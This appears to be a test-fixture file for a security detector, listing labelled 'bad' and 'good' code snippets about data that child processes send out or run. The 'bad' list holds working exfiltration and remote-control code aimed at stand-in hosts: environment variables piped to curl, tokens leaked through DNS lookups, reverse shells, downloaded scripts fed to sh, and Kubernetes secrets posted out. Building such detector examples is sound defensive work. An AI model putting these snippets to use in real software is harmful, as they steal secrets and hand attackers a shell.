import type { DetectorExamples } from '../detector.ts';

/** What the detector sees of data that another program takes out, or runs. */
export const throughPrograms: DetectorExamples = {
  bad: [
    {
      code: "import { spawn } from 'node:child_process'; const sender = spawn('curl', ['-d', '@-', 'https://take.example']); sender.stdin.end(JSON.stringify(process.env));",
      why: 'a program that sends what it reads',
      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "import { execFileSync } from 'node:child_process'; execFileSync('curl', ['-d', '@-', 'https://take.example'], { input: JSON.stringify(process.env) });",
      why: 'the same with the text given at its start',
      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
    },
    {
      path: 'x.py',
      code: 'import json, os, subprocess\nsender = subprocess.Popen(["curl", "-d", "@-", "https://take.example"], stdin=subprocess.PIPE)\nsender.communicate(json.dumps(dict(os.environ)).encode())',
      why: 'the same in Python',
      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "import { exec } from 'node:child_process'; exec(`nslookup ${Buffer.from(process.env.ACME_TOKEN).toString('hex')}.take.example`);",
      why: 'the labels of a name that a program asks for',
      attributes: { source: 'environment:ACME_TOKEN', sink: 'dns.name', to: '*.take.example' },
    },
    {
      path: 'x.py',
      code: 'import os, subprocess\nsubprocess.run(["ping", "-c", "1", os.environ["ACME_TOKEN"].encode().hex() + ".take.example"])',
      why: 'the same in Python, with its words one by one',
      attributes: { source: 'environment:ACME_TOKEN', sink: 'dns.name', to: '*.take.example' },
    },
    {
      code: "import { spawn } from 'node:child_process'; const shell = spawn('sh', ['-s']); fetch('https://load.example/x').then((r) => r.text()).then((text) => shell.stdin.end(text));",
      why: 'a shell reads what was downloaded',
      attributes: { source: 'download', sink: 'process.program', to: 'process' },
    },
    {
      code: "import net from 'node:net'; import { spawn } from 'node:child_process'; const shell = spawn('/bin/sh', []); const link = net.connect(443, 'take.example'); link.pipe(shell.stdin);",
      why: 'a shell whose commands come from a host',
      attributes: { source: 'download', sink: 'process.program', to: 'process' },
    },
    {
      path: 'x.py',
      code: 'import os, socket, subprocess\nlink = socket.socket()\nlink.connect(("take.example", 443))\nos.dup2(link.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
      why: 'a shell of which a host holds the other end',
      attributes: { source: 'download', sink: 'process.program', to: 'process' },
    },
    {
      path: 'x.py',
      code: 'import socket, subprocess\nlink = socket.create_connection(("take.example", 443))\nsubprocess.Popen(["/bin/sh", "-i"], stdin=link.fileno(), stdout=link.fileno())',
      why: 'the same in one call',
      attributes: { source: 'download', sink: 'process.program', to: 'process' },
    },
    {
      code: "import { execFile } from 'node:child_process'; import { promisify } from 'node:util'; const run = promisify(execFile); const { stdout } = await run('kubectl', ['get', 'secrets']); await fetch('https://take.example/x', { method: 'POST', body: stdout });",
      why: 'what a program prints is sent',
      attributes: { source: 'program-output', sink: 'network.body', to: 'take.example' },
    },
    {
      path: 'x.py',
      code: 'import subprocess, requests\nlog = subprocess.check_output(["git", "log"])\nrequests.post("https://take.example/x", data=log)',
      why: 'the same in Python',
      attributes: { source: 'program-output', sink: 'network.body', to: 'take.example' },
    },
  ],
  good: [
    {
      code: "import { execFile } from 'node:child_process'; import { writeFile } from 'node:fs/promises'; execFile('git', ['log'], (error, stdout) => writeFile('log.txt', stdout));",
      why: 'what a program prints is kept',
    },
    {
      path: 'x.py',
      code: 'import os, subprocess\nlog = open("run.log", "w")\nos.dup2(log.fileno(), 1)\nsubprocess.run(["git", "status"], stdin=subprocess.DEVNULL)',
      why: 'what a program prints goes into a file',
    },
    {
      code: "import { spawn } from 'node:child_process'; const sorted = spawn('sort', ['-u']); sorted.stdin.end(Object.keys(process.env).join());",
      why: 'a program that sends nothing',
    },
    {
      code: "import { execFile } from 'node:child_process'; execFile('ping', ['-c', '1', process.env.ACME_HOST]);",
      why: 'a host that is asked for as it is',
    },
    {
      code: "import { spawn } from 'node:child_process'; const server = spawn('node', ['server.js']); fetch('https://load.example/x').then((r) => r.text()).then((text) => server.stdin.write(text));",
      why: 'a program with a file of its own, which is talked to',
    },
  ],
};
